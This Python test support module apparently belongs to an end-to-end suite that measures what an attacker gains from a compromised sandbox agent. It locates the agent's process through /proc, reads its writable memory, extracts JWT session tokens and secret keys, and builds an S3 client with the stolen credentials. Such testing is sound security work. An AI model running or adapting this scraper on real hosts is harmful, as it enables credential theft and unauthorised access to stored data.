"""What an attacker gets who has taken an agent over: storage credentials, read out of its memory as the node's root."""

import base64
import json
import os
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import boto3
from botocore.config import Config
from botocore.exceptions import ClientError

from tests.e2e.support.platform import Storage

_TOKEN = re.compile(rb"eyJ[\w-]{10,}\.eyJ[\w-]{10,}\.[\w-]{10,}")
_SECRET = re.compile(rb"(?<![\w+/=-])[A-Za-z0-9+/]{40}(?![\w+/=-])")
_PIECE = 1 << 20
_OVERLAP = 4096
_KINDS = (re.compile(rb"[a-z]"), re.compile(rb"[A-Z]"), re.compile(rb"[0-9]"))


@dataclass(frozen=True)
class Loot:
    """What was found.

    Attributes:
        tokens: Session tokens (JWT) of the store.
        secrets: What looks like a secret key.
        hits: Which of the texts that were asked for are in the memory.
    """

    tokens: frozenset[bytes]
    secrets: frozenset[bytes]
    hits: frozenset[str]


def search_agent(pod: str, texts: dict[str, str]) -> Loot:
    """Read the whole memory of a pod's agent."""
    tokens, secrets, hits = set(), set(), set()
    for region in _read_memory(find_agent(pod)):
        tokens |= set(_TOKEN.findall(region))
        secrets |= {word for word in _SECRET.findall(region) if all(kind.search(word) for kind in _KINDS)}
        hits |= {name for name, text in texts.items() if text.encode() in region}
    return Loot(frozenset(tokens), frozenset(secrets), frozenset(hits))


def use(loot: Loot, storage: Storage, prefix: str) -> Any:
    """A client with the stolen credentials: of all pairs that were found, the one that the store takes for `prefix`."""
    for token in loot.tokens:
        if read_claims(token)["exp"] < time.time():
            continue
        for secret in loot.secrets:
            client = build_client(storage, read_claims(token)["accessKey"], secret.decode(), token.decode())
            try:
                client.list_objects_v2(Bucket=storage.bucket, Prefix=prefix)
            except ClientError:
                client.close()
                continue
            return client
    raise AssertionError(f"no credentials among {len(loot.tokens)} tokens and {len(loot.secrets)} words")


def build_client(storage: Storage, key: str, secret: str, token: str) -> Any:
    """A client with these credentials."""
    return boto3.client(
        "s3",
        endpoint_url=storage.endpoint,
        region_name="us-east-1",
        aws_access_key_id=key,
        aws_secret_access_key=secret,
        aws_session_token=token,
        config=Config(s3={"addressing_style": "path"}, proxies={}),
    )


def read_claims(token: bytes) -> dict[str, Any]:
    """What a token says; for MinIO among others the session policy."""
    part = token.split(b".")[1]
    claims: dict[str, Any] = json.loads(base64.urlsafe_b64decode(part + b"=" * (-len(part) % 4)))
    return claims


def find_agent(pod: str) -> int:
    """The process id, on this node, of a pod's agent."""
    for process in Path("/proc").glob("[0-9]*"):
        try:
            words = (process / "cmdline").read_bytes().split(b"\0")
            environment = (process / "environ").read_bytes().split(b"\0")
        except OSError:
            continue
        if b"sandbox_agent" in words and f"HOSTNAME={pod}".encode() in environment:
            return int(process.name)
    raise AssertionError(f"pod {pod} has no agent on this node")


def _read_memory(pid: int) -> Iterator[bytes]:
    with Path(f"/proc/{pid}/mem").open("rb", buffering=0) as memory:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            span, mode, *_ = line.split()
            if mode.startswith("rw"):
                start, end = (int(edge, 16) for edge in span.split("-"))
                yield from _read_pieces(memory.fileno(), start, end)


def _read_pieces(memory: int, start: int, end: int) -> Iterator[bytes]:
    for position in range(start, end, _PIECE):
        try:
            piece = os.pread(memory, min(_PIECE + _OVERLAP, end - position), position)
        except OSError:
            return
        # Most of it is stacks that nobody ever used.
        if piece.strip(b"\0"):
            yield piece
